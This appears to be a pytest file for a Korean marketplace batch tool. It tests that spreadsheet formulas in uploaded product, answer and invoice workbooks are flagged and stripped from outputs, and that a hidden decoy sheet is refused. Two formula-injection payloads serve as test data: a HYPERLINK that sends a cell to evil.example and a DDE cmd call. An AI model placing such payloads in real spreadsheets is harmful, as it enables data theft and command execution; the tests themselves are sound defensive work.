"""Formulas from outside never come back live: a formula cell in a dropped product, invoice or answer workbook is
reported on its cell (its saved value used, or an error when none was saved), and every workbook we write from it
holds no <f> element. Hidden sheets named like a template sheet refuse the file."""

from __future__ import annotations

import re
import time
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from conftest import MakeBook
from helpers import TMON_ONLY, control, resave_with_libreoffice

from batch.config import load_workspace
from batch.errors import FileRefused
from batch.exporters.result import write_result
from batch.importers import answers as A
from batch.importers import invoices as I
from batch.importers import products as P
from batch.importers.validation import validate_products
from batch.jobs.answers import run_answers
from batch.jobs.collect import collect
from batch.jobs.init import init_workspace
from batch.jobs.invoices import run_invoices
from batch.jobs.samples import product_rows
from batch.sandbox.app import create_app

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"자세히")'
DDE = "=cmd|' /C calc'!A0"
FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")


def formula_parts(path: Path) -> list[str]:
    """The parts of a workbook that hold a cell formula."""
    with zipfile.ZipFile(path) as zf:
        return [n for n in zf.namelist() if n.endswith(".xml") and FORMULA.search(zf.read(n))]


def headers(ws: Any) -> dict[str, int]:
    return {str(c.value or "").rstrip("*"): c.column for c in ws[1]}


def with_formulas(src: Path, dst: Path, sheet: str, cells: dict[tuple[int, str], str]) -> Path:
    wb = openpyxl.load_workbook(src)
    ws = wb[sheet]
    col = headers(ws)
    for (row, header), formula in cells.items():
        ws.cell(row, col[header]).value = formula
    wb.save(dst)
    return dst


def problems_at(report: Any, code: str) -> list[tuple[int | None, str | None]]:
    return [(p.row, p.column) for p in report.problems if p.code == code]


def test_product_formulas_are_reported_and_never_written_back(tmp_path: Path, make_book: MakeBook) -> None:
    rows = product_rows(3, markets=("tmon",))
    source = make_book(tmp_path, rows, via="openpyxl")
    # row 3 (the first product after the example row): a name from a formula, a price from a formula with no
    # saved value (openpyxl saves none), a DDE call in the detail column
    plain = with_formulas(
        source,
        tmp_path / "formulas.xlsx",
        P.MAIN,
        {(3, "상품명"): '="루미에르 "&"귀걸이"', (4, "대표가격"): "=1000*39"},
    )
    v = validate_products(plain)
    assert problems_at(v.report, "formula-no-value") == [(3, "상품명"), (4, "대표가격")]
    files = write_result(v, tmp_path / "out")
    assert formula_parts(files.result) == []
    assert files.reupload is not None and formula_parts(files.reupload) == []

    # LibreOffice saves each formula's value: the value is read, with a warning on the cell
    saved = resave_with_libreoffice(plain, tmp_path / "lo", tmp_path / "profile")
    assert formula_parts(saved) != []
    v = validate_products(saved)
    assert problems_at(v.report, "formula-cell") == [(3, "상품명"), (4, "대표가격")]
    assert problems_at(v.report, "formula-no-value") == []
    main = v.book.sheets[P.MAIN]
    assert (main.text(3, "name"), main.text(4, "price")) == ("루미에르 귀걸이", "39000")
    files = write_result(v, tmp_path / "out2")
    assert formula_parts(files.result) == []
    wb = openpyxl.load_workbook(files.result)
    col = headers(wb[P.MAIN])
    assert (wb[P.MAIN].cell(3, col["상품명"]).value, wb[P.MAIN].cell(4, col["대표가격"]).value) == (
        "루미에르 귀걸이",
        "39000",
    )


@pytest.fixture
def tmon_ws(tmp_path: Path) -> tuple[Any, Any]:
    app = create_app(clock=lambda: time.time() - 3600, seed=8)
    control(app, "POST", "/__sandbox__/seed", {"market": "tmon", "inquiries": 3, "orders": 3, "seed": 4})
    root = tmp_path / "ws"
    init_workspace(root, markets=TMON_ONLY)
    return app, load_workspace(root)


def test_answer_and_invoice_workbooks_with_formulas_come_back_without_them(
    tmp_path: Path, tmon_ws: tuple[Any, Any]
) -> None:
    app, ws = tmon_ws
    inquiries = collect(ws, "inquiries", app=app).export
    assert inquiries is not None
    answers = with_formulas(
        inquiries,
        tmp_path / "답변.xlsx",
        A.MAIN,
        {(2, "답변내용"): HYPERLINK, (2, "승인"): "Y", (3, "답변내용"): DDE, (3, "승인"): "Y"},
    )
    done = run_answers(answers, ws, app=app)
    assert done.files is not None
    assert problems_at(done.validation.report, "formula-no-value") == [(2, "답변내용"), (3, "답변내용")]
    assert formula_parts(done.files.result) == []

    orders = collect(ws, "orders", app=app).export
    assert orders is not None
    invoice = with_formulas(orders, tmp_path / "송장.xlsx", I.MAIN, {(2, "송장번호"): HYPERLINK, (2, "택배사"): DDE})
    sent = run_invoices(invoice, ws, app=app)
    assert sent.files is not None
    assert formula_parts(sent.files.result) == []
    assert sent.validation.results[2].value == "오류"


def test_a_hidden_sheet_named_like_a_template_sheet_refuses_the_file(tmp_path: Path, make_book: MakeBook) -> None:
    source = make_book(tmp_path, product_rows(2, markets=("tmon",)), via="openpyxl")
    wb = openpyxl.load_workbook(source)
    decoy = wb.copy_worksheet(wb[P.MAIN])
    decoy.title = "상품 "
    decoy.sheet_state = "veryHidden"
    wb.move_sheet(decoy, offset=-len(wb.sheetnames) + 1)
    wb.save(tmp_path / "decoy.xlsx")
    with pytest.raises(FileRefused) as refused:
        validate_products(tmp_path / "decoy.xlsx")
    assert refused.value.code == "hidden-sheet"
    assert "숨겨진 '상품 ' 시트가 있습니다" in refused.value.message
